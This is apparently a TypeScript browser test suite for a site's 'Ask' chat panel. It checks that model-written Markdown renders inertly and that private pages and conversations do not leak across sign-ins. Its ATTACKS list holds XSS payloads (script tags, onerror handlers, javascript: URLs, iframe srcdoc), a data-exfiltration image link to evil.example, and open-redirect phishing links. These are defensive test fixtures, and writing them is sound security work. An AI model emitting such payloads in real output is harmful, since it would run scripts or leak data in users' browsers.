/** Attacks of a model, a page or a neighbour by the panel: Markdown stays text, and nobody is shown what is not theirs. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { pathsOf } from '../runtime/protected/canary-site.ts';
import { canaryWords } from '../runtime/protected/canary-words.ts';
import type { ProtectedServer } from '../runtime/protected/protected-server.ts';
import { sampled } from '../support/test-all.ts';
import { askIn, buildAsking, openPage, openPanel, PROVEN, QUESTION, serveAsking } from './asking.ts';
import { visit } from './browser.ts';
import type { BuiltSite } from './built-site.ts';
import { canaryServer } from './canary-server.ts';
import { signInFrom } from './sign-in.ts';
import { workerBrowser } from './worker-browser.ts';

let site: BuiltSite;
const browser = await workerBrowser();

beforeAll(async () => {
  site = await buildAsking();
});

afterAll(async () => {
  site?.remove();
});

/** A model writes them; what it says first is proven, so that the answer is its own. */
const ATTACKS = [
  '<img src=x onerror="window.attacked=1">',
  '<script>window.attacked=1</script>',
  '![a](https://evil.example/pixel.png?q=secret)',
  '[a](javascript:window.attacked=1)',
  '[a](JaVaScRiPt&#58;window.attacked=1)',
  '[a](data:text/html,<script>window.attacked=1</script>)',
  '[a](https://evil.example/phish)',
  '[a](//evil.example/phish)',
  '[a](/\\evil.example)',
  '[a](https://evil.example//evil.example/phish)',
  '[a](/.//evil.example/phish)',
  '[a](/refunds "onmouseover=window.attacked=1")',
  '<https://evil.example/auto>',
  'https://evil.example/bare',
  '[a][r]\n\n[r]: https://evil.example/reference',
  '**[a](https://evil.example/**phish)**',
  '| <img src=x onerror=window.attacked=1> | `a|<svg onload=window.attacked=1>` |\n| --- | --- |\n| [a](vbscript:x) | b |',
  '```html"><img src=x onerror=window.attacked=1>\n</code></pre><img src=x onerror=window.attacked=1>\n```',
  '- > 1. # <b onclick=window.attacked=1>x</b>',
  '\uE000\uE002999\uE003\uE001 <iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  `${'['.repeat(3_000)}${'*'.repeat(2_000)}${'`'.repeat(1_999)}`,
  `${'> '.repeat(3_000)}deep`,
];

/** The elements, links and attributes of the answers on the screen. */
async function looked(page: Page) {
  const found = await page.evaluate<{ names: string[]; links: string[]; attributes: string[] }>(`(() => {
    const all = [...document.querySelectorAll('.ask-turn, .ask-turn *')];
    return {
      names: [...new Set(all.map(({ localName }) => localName))],
      links: all.filter(({ localName }) => localName === 'a').map(({ href }) => href),
      attributes: all.flatMap((one) => [...one.attributes].map(({ name }) => name)),
    };
  })()`);
  return {
    links: found.links,
    markup: found.names.filter((name) => /^(?:img|script|iframe|b|style|object|input|video)$/.test(name)),
    handlers: found.attributes.filter((name) => /^on|^style$|^src/.test(name)),
    attacked: await page.evaluate('window.attacked'),
  };
}

describe('Markdown that a model writes', () => {
  it.each(sampled(ATTACKS, 6).map((attack) => [attack.slice(0, 60), attack]))(
    'is shown as inert text: %j',
    async (_, attack) => {
      const { url } = await serveAsking(site, [{ text: `${PROVEN} [1].\n\n${attack}\n` }], {
        tokens: 20_000,
      });
      const page = await openPage(browser, url);
      const asked: string[] = [];
      page.on('request', (request) => asked.push(new URL(request.url()).host));
      await openPanel(page);
      await askIn(page, QUESTION);
      expect(await page.locator('.ask-answer').innerText()).toContain(PROVEN);
      const { links, ...rest } = await looked(page);
      expect(rest).toEqual({ markup: [], handlers: [], attacked: undefined });
      for (const link of links) expect(new URL(link).origin).toBe(url);
      expect(asked.filter((host) => host !== new URL(url).host)).toEqual([]);
    },
  );

  it('is shown as inert text by the panel even if the server filtered nothing', async () => {
    const { url } = await serveAsking(site);
    const page = await openPage(browser, url);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(new URL(request.url()).host));
    await page.route('**/ask', (route) => {
      const { question } = route.request().postDataJSON() as { question: string };
      const text = ATTACKS[Number(question)] ?? '';
      const end = {
        found: true,
        by: 'model',
        related: [{ title: text, url: 'javascript:attacked=1' }],
        close: [text],
      };
      const events = [
        [
          'source',
          { number: 1, title: text, section: text, url: 'https://evil.example//evil.example/source' },
        ],
        ['source', { number: 2, title: text, url: 'javascript:window.attacked=1' }],
        ['step', { tool: 'read', text }],
        ...[true, false].map((proven) => ['part', { text: `${text}\n\n`, sources: [1, 2], proven }]),
        ['end', end],
      ];
      const body = events.map(([name, data]) => `event: ${name}\ndata: ${JSON.stringify(data)}\n\n`).join('');
      return route.fulfill({ contentType: 'text/event-stream', body });
    });
    await openPanel(page);
    for (const index of ATTACKS.keys()) await askIn(page, String(index));
    const { links, ...rest } = await looked(page);
    expect(rest).toEqual({ markup: [], handlers: [], attacked: undefined });
    // An address that is said to be the site's is believed, and opened on this host.
    for (const link of links) expect(new URL(link).origin).toBe(url);
    expect(asked.filter((host) => host !== new URL(url).host)).toEqual([]);
  });
});

describe('the Ask panel on a protected site', () => {
  const words = canaryWords();
  const { staff, ops } = words;
  const secret = (audience: typeof staff) => [audience.body, audience.title, audience.heading];
  let server: ProtectedServer;

  beforeAll(async () => {
    server = await canaryServer(words);
  });
  afterAll(() => server?.close());

  async function open(path: string) {
    const { page, close } = await visit(browser, server.url + path, { width: 1440 });
    onTestFinished(close);
    return page;
  }

  /** Signs in, and waits for the pages of staff. */
  async function enter(page: Page, name: string): Promise<void> {
    await signInFrom(page, name);
    await page.locator('.tabs-bar').filter({ hasText: staff.tag }).waitFor();
  }

  it('answers strangers from public pages and members from theirs, and shows neither to the next user', async () => {
    const page = await open('/guides/open');
    const shown = async () => (await page.locator('#chat-assistant-sheet').allInnerTexts()).join(' ');
    await openPanel(page);
    for (const word of secret(staff)) await askIn(page, word);
    const stranger = (await shown()).split(/\s+/);
    // Their own questions have the words; answers and pages have none.
    const answered = (await page.locator('.ask-answer, .ask-end').allInnerTexts()).join(' ');
    for (const word of secret(staff)) expect(answered).not.toContain(word);
    expect(stranger.length).toBeGreaterThan(3);

    await enter(page, 'stella');
    // The stranger's conversation is not the member's.
    expect(await page.locator('#chat-assistant-sheet').count()).toBe(0);
    await openPanel(page);
    await page.locator('.ask-intro').waitFor();
    await askIn(page, staff.body);
    expect(await page.locator('.ask-answer').innerText()).toContain(staff.body);
    await askIn(page, ops.body);
    expect(await page.locator('.ask-answer').last().innerText()).not.toContain(ops.body);
    // Over pages of theirs it goes on.
    await page.goto(server.url + pathsOf(words, 'staff').page);
    await page.locator('.ask-question').first().waitFor();
    const kept = () => page.evaluate<string>('JSON.stringify({ ...sessionStorage })');
    expect(await kept()).toContain(staff.body);

    await page.locator('.bar-links').getByRole('button', { name: 'Sign out' }).click();
    await page.getByText('You are signed out').first().waitFor();
    expect(await kept()).not.toContain(staff.body);
    await page.goto(`${server.url}/guides/open`);
    await openPanel(page);
    await page.locator('.ask-intro').waitFor();
    expect(await shown()).not.toContain(staff.body);
  });

  it('forgets the conversation of a session that ended elsewhere', async () => {
    const page = await open('/guides/open');
    await enter(page, 'stella');
    await openPanel(page);
    await askIn(page, staff.body);
    await page.context().clearCookies();
    await page.goto(`${server.url}/guides/open`);
    await page.locator('html[data-started]').waitFor({ state: 'attached' });
    expect(await page.locator('#chat-assistant-sheet').count()).toBe(0);
    await openPanel(page);
    await page.locator('.ask-intro').waitFor();
    expect(await page.evaluate<string>('JSON.stringify({ ...sessionStorage })')).not.toContain(staff.body);
  });

  it('clears the conversation from the tab after a sign-out on a page without the panel', async () => {
    const page = await open('/guides/open');
    await enter(page, 'stella');
    await openPanel(page);
    await askIn(page, staff.body);
    const kept = () => page.evaluate<string>('JSON.stringify({ ...sessionStorage })');
    expect(await kept()).toContain(staff.body);
    await page.goto(`${server.url}/logout`);
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByText('You are signed out').first().waitFor();
    await page.locator('html[data-started]').waitFor({ state: 'attached' });
    expect(await kept()).not.toContain(staff.body);
  });

  it('the widget asks as a stranger even in a signed-in browser', async () => {
    const page = await open('/guides/open');
    await enter(page, 'both');
    await page.addScriptTag({ url: `${server.url}/_waymark/ask-widget.js` });
    const widget = page.locator('waymark-ask');
    await widget.locator('.launcher').click();
    for (const word of [...secret(staff), ...secret(ops)]) {
      const before = await widget.locator('.ask-turn').count();
      await widget.locator('textarea').fill(word);
      await page.keyboard.press('Enter');
      await widget.locator('.ask-turn').nth(before).locator('.ask-actions').waitFor();
    }
    const answered = (await widget.locator('.ask-answer, .ask-end').allInnerTexts()).join(' ');
    for (const word of [...secret(staff), ...secret(ops)]) expect(answered).not.toContain(word);
    const script = await (await fetch(`${server.url}/_waymark/ask-widget.js`)).text();
    for (const word of [...secret(staff), ...secret(ops)]) expect(script).not.toContain(word);
  });
});
